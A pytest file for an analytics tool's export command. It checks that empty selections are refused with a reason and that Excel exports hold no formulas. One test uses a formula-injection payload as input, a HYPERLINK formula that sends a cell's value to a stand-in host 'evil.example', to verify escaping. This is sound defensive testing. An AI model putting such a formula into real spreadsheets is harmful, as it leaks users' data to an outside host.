"""`uptake export`: a selection with no rows is refused with the reason (exit 1) and writes nothing, and every
table exports as an Excel workbook whose text cells are text, never formulas (uptake.safe_cells)."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest
import reference_pipeline as ref
from openpyxl import load_workbook
from test_mission_support import ADMIN, mission_workflow, small_store
from typer.testing import CliRunner

from uptake.cli import app
from uptake.levels import Level
from uptake.mission.ratings import compute_ratings, publish_ratings, review_ratings
from uptake.pipeline import run_pipeline
from uptake.store import make_engine, session_scope, upgrade

runner = CliRunner()


@pytest.fixture(scope="module")
def results(tmp_path_factory) -> Path:
    """A workspace with a practice proportion computed (monthly, 2021-01 to 2021-06)."""
    root = tmp_path_factory.mktemp("export") / "ws"
    (root / "analytics").mkdir(parents=True)
    orgs, rels = ref.make_reference(ref.Shape(regions=1, icbs_per_region=2), seed=7)
    observations = {"prop": ref.make_observations(list(orgs[orgs.level == "practice"].code),
                                                  ref.months(dt.date(2021, 1, 1), 6), seed=3)}
    ref.build_workspace(root / "analytics" / "uptake.duckdb", orgs, rels, observations)
    run_pipeline(root, engine="duckdb", catalogue=ref.catalogue_of(ref.indicator("prop", Level.PRACTICE)))
    return root


def export(root: Path, *args: str):
    return runner.invoke(app, ["export", *args, "--workspace", str(root)], env={"COLUMNS": "200"})


@pytest.mark.parametrize("args, reason", [
    (["values", "--indicator", "prop", "--level", "icb", "--period", "2030-01-01"],
     "no values results for prop at level icb for the period 2030-01-01"),
    (["values", "--indicator", "prop", "--level", "trust"],
     "no values results for prop at level trust"),
    (["spc", "--indicator", "prop", "--level", "stroke-unit", "--format", "xlsx"],
     "no spc results for prop at level stroke-unit"),
])
def test_an_empty_selection_exits_1_with_the_reason_and_writes_nothing(results: Path, tmp_path: Path,
                                                                       args: list[str], reason: str) -> None:
    target = tmp_path / "out.file"
    result = export(results, *args, "--output", str(target))
    assert result.exit_code == 1, result.output
    assert result.stdout == "" and not target.exists()
    assert result.stderr.startswith("error: there are " + reason), result.stderr
    to_stdout = export(results, *args) if "xlsx" not in args else None
    if to_stdout is not None:
        assert to_stdout.exit_code == 1 and to_stdout.stdout == ""


def test_the_reason_names_what_there_is(results: Path) -> None:
    period = export(results, "values", "--indicator", "prop", "--level", "icb", "--period", "2030-01-01").stderr
    assert "its 6 periods run from 2021-01-01 to 2021-06-01" in " ".join(period.split())
    level = export(results, "values", "--indicator", "prop", "--level", "trust").stderr
    assert "levels with results: england, region, icb, sub-icb, pcn, practice" in " ".join(level.split())


def test_every_table_exports_as_excel_with_text_as_text(results: Path, tmp_path: Path) -> None:
    import duckdb

    for table in ("values", "deciles", "funnel", "spc", "opportunity", "adoption", "peers"):
        args = [table, "--level", "practice"] + ([] if table == "peers" else ["--indicator", "prop"])
        target = tmp_path / f"{table}.xlsx"
        result = export(results, *args, "--format", "xlsx", "--output", str(target))
        assert result.exit_code == 0, (table, result.output)
        book = load_workbook(target)
        assert book.sheetnames[-1] == "About"
        sheet = book.worksheets[0]
        rows = list(sheet.iter_rows(values_only=True))
        assert len(rows) > 1, table
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # the default file name, like Parquet's; the values are the store's
    default = export(results, "values", "--indicator", "prop", "--level", "icb", "--format", "xlsx")
    assert default.exit_code == 0, default.output
    path = results / "exports" / "values-prop-icb.xlsx"
    frame = pd.read_excel(path, sheet_name=0, dtype={"org_code": str})
    con = duckdb.connect(str(results / "analytics" / "uptake.duckdb"), read_only=True)
    stored = con.execute("SELECT org_code, value FROM result_values WHERE indicator = 'prop' AND level = 'icb' "
                         "ORDER BY org_code, period").df()
    con.close()
    assert list(frame["org_code"]) == list(stored["org_code"])
    assert frame["value"].round(12).tolist() == stored["value"].round(12).tolist()
    assert "Excel cannot go" not in default.output
    dash = export(results, "values", "--indicator", "prop", "--level", "icb", "--output", "-")
    assert dash.exit_code == 0 and dash.stdout.startswith('"indicator"')
    refused = export(results, "values", "--indicator", "prop", "--level", "icb", "--format", "xlsx", "--output", "-")
    assert refused.exit_code == 2 and "Excel cannot go to standard output" in refused.stderr


def test_excel_cells_cannot_run_formulas(tmp_path: Path) -> None:
    from uptake.cli.export_files import write_frame

    evil = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    frame = pd.DataFrame({"name": [evil, "@SUM(1+1)", "-12.5", "plain"], "value": [-0.5, 1.0, 2.0, None],
                          "day": [dt.date(2021, 1, 1)] * 4, "trace": [{"a": 1}] * 4})
    book = load_workbook(io.BytesIO(write_frame(frame, tmp_path / "x.xlsx", "xlsx").read_bytes()))
    sheet = book.worksheets[0]
    cells = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == ["'" + evil, "'@SUM(1+1)", "-12.5", "plain"]
    assert all(row[0].data_type == "s" for row in cells)
    assert [row[1].value for row in cells] == [-0.5, 1.0, 2.0, None]  # numbers stay numbers
    assert cells[0][2].value.date() == dt.date(2021, 1, 1) and cells[0][3].value == '{"a": 1}'


# --- uptake export ratings ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def mission(tmp_path_factory) -> Path:
    with pytest.MonkeyPatch.context() as mp:
        mp.delenv("UPTAKE_DATABASE_URL", raising=False)
        ws = tmp_path_factory.mktemp("export-ratings") / "ws"
        (ws / "analytics").mkdir(parents=True)
        store = small_store(ws / "analytics" / "uptake.duckdb")
        url = f"sqlite:///{ws / 'workflow.sqlite'}"
        upgrade(url)
        engine = mission_workflow(make_engine(url))
        with session_scope(engine) as session:
            compute_ratings(session, store, who=ADMIN)
        engine.dispose()
        yield ws


def test_ratings_export_says_why_it_is_empty_and_offers_excel(mission: Path, tmp_path: Path,
                                                              monkeypatch) -> None:
    monkeypatch.delenv("UPTAKE_DATABASE_URL", raising=False)
    target = tmp_path / "ratings.csv"
    nothing = export(mission, "ratings", "--output", str(target))
    assert nothing.exit_code == 1 and not target.exists()
    assert "there are no published ratings" in nothing.stderr and "uptake ratings publish" in nothing.stderr
    engine = make_engine(f"sqlite:///{mission / 'workflow.sqlite'}")
    with session_scope(engine) as session:
        review_ratings(session, ADMIN, level="stroke-unit")
        publish_ratings(session, ADMIN)
    engine.dispose()
    icb = export(mission, "ratings", "--level", "icb", "--output", str(target))
    assert icb.exit_code == 1 and not target.exists()
    assert "no published ratings at level icb" in icb.stderr and "levels with published ratings: stroke-unit" \
        in " ".join(icb.stderr.split())
    year = export(mission, "ratings", "--level", "stroke-unit", "--period", "2031-04-01", "--output", str(target))
    assert year.exit_code == 1 and "rating years with published ratings at level stroke-unit: 2019-04-01" in \
        " ".join(year.stderr.split())
    book = tmp_path / "ratings.xlsx"
    done = export(mission, "ratings", "--format", "xlsx", "--output", str(book))
    assert done.exit_code == 0, done.output
    frame = pd.read_excel(book, sheet_name=0)
    assert len(frame) == 36 and {"org_code", "rating", "trace", "synthetic"} <= set(frame.columns)
    refused = export(mission, "ratings", "--format", "xlsx", "--output", "-")
    assert refused.exit_code == 2 and "Excel cannot go to standard output" in refused.stderr
